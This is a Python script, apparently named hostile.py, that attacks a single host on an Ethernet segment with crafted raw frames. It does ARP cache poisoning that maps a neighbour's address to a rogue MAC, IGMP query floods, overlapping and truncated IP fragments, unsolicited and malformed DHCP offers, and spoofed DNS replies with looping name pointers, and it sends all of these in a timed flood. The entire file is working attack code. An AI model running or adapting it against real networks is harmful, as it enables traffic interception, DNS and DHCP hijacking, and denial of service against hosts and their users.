"""Attacks on one host of an Ethernet by raw frames: hostile.py KIND DEVICE MAC VICTIM NEIGHBOUR SECONDS."""

import os
import random
import socket
import struct
import sys
import time

kind, device, mac, victim, neighbour, seconds = sys.argv[1:]
to = bytes.fromhex(mac.replace(":", ""))
us = socket.inet_aton(victim)
peer = socket.inet_aton(neighbour)
rogue = bytes.fromhex("020000006666")
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(protocol, payload, source=peer, destination=us, fragment=0, ident=0, options=b"", ttl=64):
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x40 | (5 + len(options) // 4), 0, 20 + len(options) + len(payload), ident, fragment, ttl, protocol, 0, source, destination,
    ) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def ethernet(ethertype, payload, destination=to, source=rogue):
    return destination + source + struct.pack("!H", ethertype) + payload


def udp(source_port, port, data):
    return struct.pack("!4H", source_port, port, 8 + len(data), 0) + data


def arp():
    """The neighbour is said to be at the attacker's address, by replies and announcements; and strangers by the thousand."""
    claimed = random.choice([peer, peer, socket.inet_aton(f"10.77.0.{random.randrange(3, 255)}")])
    operation = random.choice([1, 2, 2])
    return ethernet(0x0806, struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, rogue, claimed, to, us))


def igmp():
    """Queries of every version, about everything, to be answered at once."""
    group = socket.inet_aton(random.choice(["0.0.0.0", "224.0.0.251", "239.1.1.1"]))
    body = struct.pack("!BBH4s", 0x11, random.choice([0, 1, 255]), 0, group)
    if random.random() < 0.7:
        sources = [os.urandom(4) for _ in range(random.randrange(20))]
        body += struct.pack("!BBH", 7, 1, len(sources)) + b"".join(sources)
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    everybody = socket.inet_aton("224.0.0.1")
    packet = ipv4(2, body, destination=everybody, options=b"\x94\x04\0\0", ttl=1)
    return ethernet(0x0800, packet, destination=bytes.fromhex("01005e000001"))


def fragments():
    """Overlapping, tiny, beyond the end, and such that the rest never comes."""
    ident = random.randrange(65536)
    more, offset, size = random.choice([(0x2000, 0, 1480), (0x2000, 1, 1480), (0x2000, 0, 8), (0, 8189, 64), (0, 100, 100)])
    source = socket.inet_aton(f"10.77.0.{random.randrange(3, 255)}")
    return ethernet(0x0800, ipv4(17, os.urandom(size), source=source, fragment=more | offset, ident=ident))


def dhcp():
    """Offers and acknowledgments that nobody asked for, well-formed or not."""
    fixed = struct.pack("!BBBB", 2, 1, 6, 0) + os.urandom(24) + to + os.urandom(202) + b"\x63\x82\x53\x63"
    options = random.choice([b"\x35\x01\x05\xff", b"\x35\x01\x02\x33\xff", os.urandom(60), b"\x35\xff" + os.urandom(20)])
    return ethernet(0x0800, ipv4(17, udp(67, 68, fixed + options)))


def dns():
    """Answers with any id, to any port; names that point at themselves, or beyond the end."""
    name = random.choice([b"\xc0\x0c", b"\xc0\xff", b"\x3f" + b"a" * 20, b"\x03www\x04test\x00"])
    body = struct.pack("!6H", random.randrange(65536), 0x8180, 1, 1, 0, 0) + name + b"\0\1\0\1" + name + b"\0\1\0\1\0\0\0\x3c\0\4" + us
    port = random.choice([5353, random.randrange(32768, 65536)])
    return ethernet(0x0800, ipv4(17, udp(53, port, body)))


attack = {"arp": arp, "igmp": igmp, "fragments": fragments, "dhcp": dhcp, "dns": dns}[kind]
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    for _ in range(20):
        try:
            out.send(attack())
        except OSError:
            pass  # The device's queue is full: it is flooded enough.
    time.sleep(0.001)
